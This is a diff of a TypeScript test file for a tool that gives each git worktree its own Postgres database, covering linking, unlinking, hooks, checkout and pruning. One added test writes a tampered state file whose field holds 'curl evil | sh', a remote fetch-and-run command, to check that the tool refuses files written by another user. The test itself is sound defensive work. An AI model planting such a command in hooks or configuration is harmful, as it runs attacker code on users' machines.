@@ -1,13 +1,16 @@
 import { spawnSync } from 'node:child_process';
-import { mkdir, readdir, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { cp, mkdir, readdir, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
+import { planBranchCheckout } from '../../../src/operations/branch/checkout/checkout.ts';
 import { applyBranchCreate, planBranchCreate } from '../../../src/operations/branch/create/create.ts';
 import { applyBranchDrop, planBranchDrop } from '../../../src/operations/branch/drop/drop.ts';
+import { applyBranchPrune, planBranchPrune } from '../../../src/operations/branch/prune/prune.ts';
 import { planBranchReset } from '../../../src/operations/branch/reset/reset.ts';
 import { environmentFile } from '../../../src/operations/link/environment-file.ts';
 import { planLink } from '../../../src/operations/link/link.ts';
 import { linkQuestion, unlinkQuestion } from '../../../src/operations/link/text.ts';
 import { applyUnlink, planUnlink } from '../../../src/operations/link/unlink.ts';
+import { applyReset, planReset } from '../../../src/operations/reset/reset.ts';
 import { type AnyServer, startAnyServer } from '../../helpers/databases/any-server.ts';
 import { describeWithKind } from '../../helpers/databases/describe-with-kind.ts';
 import { createRepository, type LinkedRepository } from '../../helpers/linked-repository.ts';
@@ -94,15 +97,18 @@ describeWithKind('postgres', 'tool link', () => {
     git('main', 'commit', '--quiet', '-m', 'config');
     const { username, password, hostname, port } = new URL(repository.applicationUrl());
     const server = `  username: ${username}\n  password: "${password}"\n  host: ${hostname}\n  port: ${port}`;
-    const text = (database: string) =>
-      `default: &default\n  adapter: postgresql\n${server}\ndevelopment: # of the shop\n  <<: *default\n  database: ${database} # mine\nproduction:\n  url: postgres://top:secret@db/shop\n`;
+    const text = (database: string, test = 'shop_test') =>
+      `default: &default\n  adapter: postgresql\n${server}\ndevelopment: # of the shop\n  <<: *default\n  database: ${database} # mine\ntest:\n  <<: *default\n  database: ${test}\nproduction:\n  url: postgres://top:secret@db/shop\n`;
     await writeFile(path('main/config/database.yml'), text('shop_dev'));
     const plan = await link();
     expect(plan).toMatchObject({ file: 'config/database.yml', key: 'development.database' });
 
     git('main', 'worktree', 'add', '--quiet', path('rails'), '-b', 'rails');
-    const section = `development:\n  database: shop_dev_rails\n  adapter: postgresql\n${server}\n`;
-    expect(await read('rails/config/database.yml')).toBe(section);
+    const section = (name: string, database: string) =>
+      `${name}:\n  database: ${database}\n  adapter: postgresql\n${server}\n`;
+    expect(await read('rails/config/database.yml')).toBe(
+      section('development', 'shop_dev_rails') + section('test', '"shop_dev_rails-test"'),
+    );
     expect((await stat(path('rails/config/database.yml'))).mode & 0o777).toBe(0o600);
     expect(await rowsIn('shop_dev_rails')).toBe(1);
 
@@ -110,7 +116,7 @@ describeWithKind('postgres', 'tool link', () => {
     await mkdir(path('full/config'));
     await writeFile(path('full/config/database.yml'), text("'shop_dev'"));
     git('full', 'checkout', '--quiet', '-f', 'full');
-    expect(await read('full/config/database.yml')).toBe(text("'shop_dev_full'"));
+    expect(await read('full/config/database.yml')).toBe(text("'shop_dev_full'", '"shop_dev_full-test"'));
 
     await unlink();
     expect(await read('full/config/database.yml')).toBe(text("'shop_dev'"));
@@ -130,6 +136,54 @@ describeWithKind('postgres', 'tool link', () => {
       code: 'link_refused',
       message: expect.stringContaining('has its git folder elsewhere (a submodule, or --separate-git-dir)'),
     });
+  });
+
+  it('is refused where another user or machine has written it', async () => {
+    const { git, link, contextWith } = repository;
+    await link();
+    const file = path('main/.git/tool/link.json');
+    const own = await readFile(file, 'utf8');
+    // As in an archive of a repository: the lines would be restored in a hook of this user.
+    await writeFile(file, own.replace('"previous":null', '"previous":"curl evil | sh\\n"'));
+    expect(await readFile(file, 'utf8')).not.toBe(own);
+    const refused = { code: 'link_foreign', message: expect.stringContaining(path('main/.git/tool')) };
+    await expect(planUnlink(contextWith(), {})).rejects.toMatchObject(refused);
+    await expect(link()).rejects.toMatchObject(refused);
+    const { stderr } = git('main', 'worktree', 'add', '--quiet', path('foreign'), '-b', 'foreign');
+    expect(stderr).toContain('not switched');
+    await expect(stat(path('foreign/.env.local'))).rejects.toThrow();
+    expect(await repository.branches()).toEqual([]);
+    await writeFile(file, own);
+    const elsewhere = { ...contextWith(), environment: { HOME: path('another-home') } };
+    await expect(planUnlink(elsewhere, {})).rejects.toMatchObject(refused);
+    git('main', 'worktree', 'remove', '--force', path('foreign'));
+  });
+
+  it('looks at no database for a repository that is not linked, nor for the main tree, and so needs no server', async () => {
+    const { git, link, contextWith, config, env } = repository;
+    // Hooks of all repositories of the user.
+    git('main', 'config', 'core.hooksPath', path('hooks'));
+    await link();
+    expect(spawnSync('git', ['init', '--quiet', path('other')]).status).toBe(0);
+    // A connection would be refused there.
+    const url = repository.applicationUrl();
+    await writeFile(path('main/tool.yml'), config().replaceAll(new URL(url).port, '9'));
+    const checkout = (tree: string) => {
+      const words = [PROGRAM, 'branch', 'checkout', 'shop', '--tree', path(tree), '--yes'];
+      return spawnSync(process.execPath, words, { encoding: 'utf8', cwd: path('main'), env });
+    };
+    expect(checkout('other').stdout).toContain('is unchanged: the repository is not linked');
+    expect(await readFile(path('hooks/post-checkout'), 'utf8')).toContain('--tree');
+    await writeFile(path('main/tool.yml'), config());
+    const { plan } = await planBranchCheckout(contextWith(), { target: 'shop', tree: path('main') });
+    expect(plan).toMatchObject({
+      action: 'none',
+      destination: null,
+      why: expect.stringContaining('keeps its database'),
+    });
+    await repository.unlink();
+    git('main', 'config', '--unset', 'core.hooksPath');
+    await rm(path('other'), { recursive: true });
   });
 
   it('is removed from the hook that it wrote after core.hooksPath has changed', async () => {
@@ -304,6 +358,35 @@ describeWithKind('postgres', 'tool link', () => {
     git('main', 'worktree', 'remove', '--force', path('along'));
   });
 
+  it('is undone in a copy of the repository without a change of the original', async () => {
+    const { git, link, contextWith, databaseOf } = repository;
+    await link();
+    git('main', 'worktree', 'add', '--quiet', path('-original'), '-b', 'original');
+    expect((await repository.branches()).map(({ name }) => name)).toEqual(['original']);
+    const written = await readFile(hook(), 'utf8');
+    await cp(path('main'), path('copy'), { recursive: true });
+    const context = { ...contextWith(), cwd: path('copy') };
+    const planned = await planUnlink(context, {});
+    expect(planned.plan.hook).toMatchObject({ file: path('copy/.git/hooks/post-checkout') });
+    expect(planned.plan.warnings).toMatchObject([{ message: expect.stringContaining('is of another repository') }]);
+    await applyUnlink(context, planned);
+    await expect(stat(path('copy/.git/tool'))).rejects.toThrow();
+    expect(await readFile(hook(), 'utf8')).toBe(written);
+    expect(await databaseOf('-original')).toBe('shop_dev_original');
+    // In a folder of hooks for all repositories.
+    await repository.unlink();
+    git('main', 'config', 'core.hooksPath', path('all-hooks'));
+    await link();
+    await rm(path('copy'), { recursive: true });
+    await cp(path('main'), path('copy'), { recursive: true });
+    expect((await planUnlink(context, {})).plan.hook).toBeNull();
+    await repository.unlink();
+    await expect(stat(path('all-hooks/post-checkout'))).rejects.toThrow();
+    git('main', 'config', '--unset', 'core.hooksPath');
+    await rm(path('copy'), { recursive: true });
+    git('main', 'worktree', 'remove', '--force', path('-original'));
+  });
+
   it('takes a value that a comment repeats, and refuses names that it cannot remember', async () => {
     const { contextWith, applicationUrl, git } = repository;
     const plan = (more: object = {}) => planLink(contextWith(), { target: 'shop', ...more });
@@ -343,11 +426,31 @@ describeWithKind('postgres', 'tool link', () => {
     expect((await branches()).map(({ name }) => name)).toEqual(['kept', 'young']);
   });
 
+  it('takes the spare for one new tree and copies for others at once; a prune makes the next spare', async () => {
+    const { gitAtOnce, git, link, contextWith, databaseOf, rowsIn, branches } = repository;
+    await link();
+    const keeping = contextWith({ defaults: { cpus: 1, keep_spare: true } });
+    await applyReset(keeping, await planReset(keeping, { target: 'shop', undo: false }));
+    const oids = async (where: string) =>
+      server.column('postgres', `SELECT oid FROM pg_database WHERE datname ${where} ORDER BY 1`);
+    const spare = await oids("= 'shop_dev.tool-spare'");
+    const names = ['s1', 's2', 's3'];
+    await Promise.all(names.map((name) => gitAtOnce('main', 'worktree', 'add', path(name), '-b', name)));
+    expect(await oids("IN ('shop_dev_s1', 'shop_dev_s2', 'shop_dev_s3')")).toEqual(expect.arrayContaining(spare));
+    expect(await oids("= 'shop_dev.tool-spare'")).toEqual([]);
+    for (const name of names) expect(await rowsIn(await databaseOf(name))).toBe(1);
+    expect((await branches()).map(({ snapshot }) => snapshot)).not.toContain(null);
+    for (const name of names) git('main', 'worktree', 'remove', '--force', path(name));
+    expect((await applyBranchPrune(keeping, await planBranchPrune(keeping, {}))).dropped).toHaveLength(3);
+    expect(await oids("= 'shop_dev.tool-spare'")).not.toEqual([]);
+    expect(await oids("LIKE 'shop_dev.tool-new-%'")).toEqual([]);
+  });
+
   it('creates or reuses the database of a tree by the command of a session hook', async () => {
     const { git, link, databaseOf, branches } = repository;
     git('main', 'worktree', 'add', '--quiet', path('late'), '-b', 'late');
     await link();
-    const env = { ...process.env, TOOL_TRUST: 'true', CLAUDE_PROJECT_DIR: path('late') };
+    const env = { ...repository.env, CLAUDE_PROJECT_DIR: path('late') };
     const command = `'${process.execPath}' '${PROGRAM}' branch checkout shop --tree "$CLAUDE_PROJECT_DIR" --yes`;
     const start = () => spawnSync('sh', ['-c', `cd ${path('main')} && ${command}`], { encoding: 'utf8', env }).stdout;
     expect(start()).toContain('new branch late');
